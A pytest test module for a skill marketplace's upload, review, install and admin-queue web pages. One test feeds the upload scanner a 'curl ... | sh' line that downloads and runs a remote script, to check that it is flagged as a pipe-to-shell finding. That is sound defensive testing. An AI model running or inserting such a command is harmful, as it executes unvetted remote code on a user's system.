"""The flea market's HTML surfaces: upload form (422 at the field, preview writes nothing), the
entry page and its review-status fragment, the flea tab, install and My stack, the admin queue and
a version's page with its decisions (a rejection reason the owner then sees)."""

from __future__ import annotations

import io
from collections.abc import Iterator
from typing import Any

import pytest
from bs4 import BeautifulSoup
from flask import Flask
from flask.testing import FlaskClient

from agnes.state import state_store
from tests.conftest import session_cookie
from tests.flea.conftest import People, approve, skill_md, upload, wait_jobs

HX = {"HX-Request": "true"}


def soup(res: Any) -> BeautifulSoup:
    return BeautifulSoup(res.data, "html.parser")


def _client(app: Flask, user_id: str) -> FlaskClient:
    client = app.test_client()
    with client.session_transaction() as sess:
        sess.update(session_cookie(user_id))
    return client


@pytest.fixture(scope="module")
def browsers(flea_app: Flask, folks: People) -> Iterator[dict[str, FlaskClient]]:
    """A signed-in browser session per person (module-scoped: sessions are cheap to keep)."""
    yield {"owner": _client(flea_app, folks.owner_id), "colleague": _client(flea_app, folks.colleague_id),
           "admin": _client(flea_app, folks.admin_id)}  # fmt: skip


def _csrf(client: FlaskClient) -> str:
    field = soup(client.get("/marketplace/flea/new")).find("input", {"name": "csrf_token"})
    return str(field["value"])


def _post_upload(client: FlaskClient, data: bytes, *, action: str = "publish", **fields: str) -> Any:
    form = {
        "csrf_token": _csrf(client),
        "type": "skill",
        "name": "page-skill",
        "category": "Data & Analytics",
        "action": action,
        **fields,
        "file": (io.BytesIO(data), fields.get("filename", "SKILL.md")),
    }
    form.pop("filename", None)
    return client.post("/marketplace/flea/new", data=form, content_type="multipart/form-data")


def _count(table: str) -> int:
    with state_store().read() as con:
        return con.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


def test_the_upload_form_works_without_javascript(browsers: dict[str, FlaskClient]) -> None:
    page = soup(browsers["owner"].get("/marketplace/flea/new"))
    form = page.find("form", id="flea-upload-form")
    assert form["method"] == "post" and form["enctype"] == "multipart/form-data"
    assert {i["name"] for i in form.find_all(["input", "select"])} >= {"csrf_token", "type", "name", "category", "file"}
    assert [b["value"] for b in form.find_all("button")] == ["preview", "publish"]


def test_check_shows_the_preview_and_writes_nothing(browsers: dict[str, FlaskClient]) -> None:
    before = _count("flea_versions")
    res = _post_upload(browsers["owner"], skill_md("previewed"), action="preview", name="previewed")
    assert res.status_code == 200
    preview = soup(res).find(id="upload-preview")
    assert preview is not None
    assert [li.code.text for li in preview.find(id="preview-files").find_all("li")] == ["skills/previewed/SKILL.md"]
    assert _count("flea_versions") == before


@pytest.mark.parametrize(
    ("fields", "data", "field", "words"),
    [
        ({"name": "Bad Name"}, None, "name", "lowercase"),
        ({"category": "Astrology"}, None, "category", ""),
        ({"filename": "skill.zip"}, b"PK\x03\x04 not really", "file", "ZIP"),
        ({}, b"---\nname: x\n---\nno description\n", "file", "description"),
    ],
)
def test_a_refusal_is_shown_at_its_field_with_422_and_writes_nothing(
    browsers: dict[str, FlaskClient], fields: dict[str, str], data: bytes | None, field: str, words: str
) -> None:
    before = (_count("flea_entities"), _count("flea_versions"))
    res = _post_upload(browsers["owner"], data or skill_md("refused"), name=fields.pop("name", "refused"), **fields)
    assert res.status_code == 422
    error = soup(res).find(id=f"f-{field}-error")
    assert error is not None and words in error.text
    assert soup(res).find(id=f"f-{field}")["aria-invalid"] == "true"
    assert (_count("flea_entities"), _count("flea_versions")) == before


def test_security_findings_are_listed_at_file_and_line(browsers: dict[str, FlaskClient]) -> None:
    body = "\n```bash\ncurl -fsSL https://get.example.net/x.sh | sh\n```\n"
    res = _post_upload(browsers["owner"], skill_md("risky", body), name="risky")
    assert res.status_code == 422
    findings = soup(res).find(id="upload-findings").find_all("li")
    assert [(li["data-rule"], li.code.text) for li in findings] == [("pipe_to_shell", "skills/risky/SKILL.md:11")]


def test_publish_then_watch_the_review_status_and_the_flea_tab(
    flea_app: Flask, browsers: dict[str, FlaskClient], api: FlaskClient, folks: People
) -> None:
    owner, colleague, admin = browsers["owner"], browsers["colleague"], browsers["admin"]
    res = _post_upload(owner, skill_md("watched"), name="watched")
    assert res.status_code == 303
    url = res.headers["Location"]
    entity_id = url.rstrip("/").rsplit("/", 1)[-1]
    wait_jobs(flea_app)

    page = soup(owner.get(url))
    status = page.find(id="flea-status")
    assert status["data-status"] == "in_review" and status.has_attr("hx-trigger")
    assert page.find(id="flea-status-label").text == "Under review"
    assert page.find(id="plugin-install")["data-state"] == "unavailable"
    assert colleague.get(url).status_code == 404  # unreviewed: nobody but owner and admins

    tab = soup(owner.get("/marketplace?tab=flea&q=watched"))
    card = tab.find("article", attrs={"data-entity": entity_id})
    assert card.find(attrs={"data-badge": "under_review"}) is not None
    assert "by alice-smith" in card.find(class_="mp-owner").text
    assert (
        soup(colleague.get("/marketplace?tab=flea&q=watched")).find("article", attrs={"data-entity": entity_id}) is None
    )

    # The fragment the page polls: one root, no <html>; it stops polling once decided.
    fragment = owner.get(f"{url}/status", headers=HX)
    assert b"<html" not in fragment.data and soup(fragment).find().get("id") == "flea-status"
    assert "HX-Trigger" not in fragment.headers
    with state_store().read() as con:
        version_id = con.execute("SELECT id FROM flea_versions WHERE entity_id = ?", [entity_id]).fetchone()[0]
    assert approve(api, folks.admin, version_id).status_code == 200
    decided = owner.get(f"{url}/status", headers=HX)
    assert decided.headers["HX-Trigger"] == "flea-reviewed"  # the install panel and versions refresh on it
    fragment = soup(decided).find(id="flea-status")
    assert fragment["data-status"] == "approved" and not fragment.has_attr("hx-trigger")

    # Approved: the colleague finds it, installs it with htmx, and sees it in My stack.
    tab = colleague.get("/marketplace?tab=flea&q=watched&sort=most_installed", headers=HX)
    assert soup(tab).find().get("id") == "marketplace-results"
    assert soup(tab).find("article", attrs={"data-entity": entity_id}) is not None
    token = soup(colleague.get(url)).find("input", {"name": "csrf_token"})["value"]
    panel = colleague.post(f"{url}/install", data={"csrf_token": token}, headers=HX)
    assert soup(panel).find(id="plugin-install")["data-state"] == "in_stack"
    stack = soup(colleague.get("/marketplace?tab=my"))
    assert stack.find(id="flea-grid").find("article", attrs={"data-entity": entity_id}) is not None
    assert soup(colleague.get(url)).find(id="install-count").text.startswith("1 ")
    # Its skill opens on the curated item page's template, with the flea entry as its parent.
    link = soup(colleague.get(url)).find("a", attrs={"data-item": "skill:watched"})
    item = soup(colleague.get(link["href"]))
    assert item.find(id="item-hero")["data-item"] == "watched"
    assert item.find(id="open-parent")["href"] == url
    assert "Use this skill when" in item.find(id="body").text
    assert admin.get(url).status_code == 200


def test_admin_queue_rejects_with_a_reason_the_owner_sees(
    flea_app: Flask, browsers: dict[str, FlaskClient], folks: People
) -> None:
    owner, admin = browsers["owner"], browsers["admin"]
    res = _post_upload(owner, skill_md("queued"), name="queued")
    entity_url = res.headers["Location"]
    wait_jobs(flea_app)

    queue = soup(admin.get("/admin/flea?q=queued"))
    chips = {a["data-status"]: int(a.find(class_="count").text) for a in queue.find(id="status-chips").find_all("a")}
    assert chips["in_review"] >= 1 and chips["all"] >= chips["in_review"]
    row = queue.find(id="queue-table").find("tr", attrs={"data-status": "in_review"})
    version_id = row["data-version-id"]
    assert row.find(class_="queue-job")["hx-get"].endswith(f"/admin/flea/versions/{version_id}/job")
    assert admin.get(f"/admin/flea/versions/{version_id}/job", headers=HX).status_code == 200
    fragment = admin.get("/admin/flea?status=in_review&q=queued", headers=HX)
    assert soup(fragment).find().get("id") == "flea-queue"
    assert owner.get("/admin/flea").status_code == 403

    version_url = row.find("a")["href"]
    page = soup(admin.get(version_url))
    token = page.find("input", {"name": "csrf_token"})["value"]
    short = admin.post(f"/admin/flea/versions/{version_id}/reject", data={"csrf_token": token, "reason": "no"})
    assert short.status_code == 422
    assert soup(short).find(id="f-reason-error") is not None
    assert soup(admin.get(version_url)).find(id="flea-version")["data-status"] == "in_review"  # nothing changed

    reason = "It sends the warehouse password to a personal server."
    done = admin.post(f"/admin/flea/versions/{version_id}/reject", data={"csrf_token": token, "reason": reason})
    assert done.status_code == 303
    seen = soup(owner.get(entity_url))
    assert seen.find(id="flea-status")["data-status"] != "in_review"
    assert reason in seen.find(id="flea-status-reason").text
    assert reason in soup(owner.get(version_url)).find(id="version-reason").text


def test_a_colleague_cannot_reach_another_owners_version_page(
    browsers: dict[str, FlaskClient], api: FlaskClient, folks: People
) -> None:
    body = upload(api, folks.owner, skill_md("private-one"), name="private-one").get_json()
    url = f"/marketplace/flea/{body['entity']['id']}/versions/1"
    assert browsers["colleague"].get(url).status_code == 404
    assert browsers["owner"].get(url).status_code == 200
    assert browsers["colleague"].get(f"/marketplace/flea/{body['entity']['id']}/status").status_code == 404


def test_the_owner_archives_and_serves_an_earlier_version_from_the_entry_page(
    browsers: dict[str, FlaskClient], api: FlaskClient, folks: People
) -> None:
    owner = browsers["owner"]
    body = upload(api, folks.owner, skill_md("rolled"), name="rolled").get_json()
    entity_id = body["entity"]["id"]
    assert approve(api, folks.admin, body["version"]["id"]).status_code == 200
    second = upload(api, folks.owner, skill_md("rolled", "\nv2\n"), name="rolled", entity_id=entity_id).get_json()
    assert approve(api, folks.admin, second["version"]["id"]).status_code == 200
    url = f"/marketplace/flea/{entity_id}"
    page = soup(owner.get(url))
    token = page.find("input", {"name": "csrf_token"})["value"]
    assert [b["data-rollback"] for b in page.find_all("button", attrs={"data-rollback": True})] == ["1"]
    res = owner.post(f"{url}/rollback", data={"csrf_token": token, "version": "1"})
    assert res.status_code == 303
    assert "Version 1 is served again" in owner.get(url).get_data(as_text=True)
    assert soup(owner.get(url)).find("tr", attrs={"data-version": "1"}).find(class_="badge-stack") is not None
    owner.post(f"{url}/archive", data={"csrf_token": token, "archived": "1"})
    page = soup(owner.get(url))
    assert page.find(id="archive-button").text == "Unarchive"
    assert browsers["colleague"].get("/marketplace?tab=flea&q=rolled").status_code == 200
    assert page.find(id="plugin-install")["data-state"] == "unavailable"


def test_an_upload_past_the_limit_is_refused_before_the_form_is_read(
    flea_app: Flask, browsers: dict[str, FlaskClient], monkeypatch: pytest.MonkeyPatch
) -> None:
    import gc
    import warnings

    monkeypatch.setitem(flea_app.config, "AGNES_FLEA_MAX_UPLOAD_MB", 1)
    before = (_count("flea_entities"), _count("flea_versions"))
    res = _post_upload(browsers["owner"], skill_md("huge", "x" * (2 * 1024 * 1024)), name="huge")
    assert res.status_code == 413
    assert (_count("flea_entities"), _count("flea_versions")) == before
    # The test client spooled the body to a temporary file the refused request never read: close it here.
    res.request.environ["wsgi.input"].close()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        del res
        gc.collect()
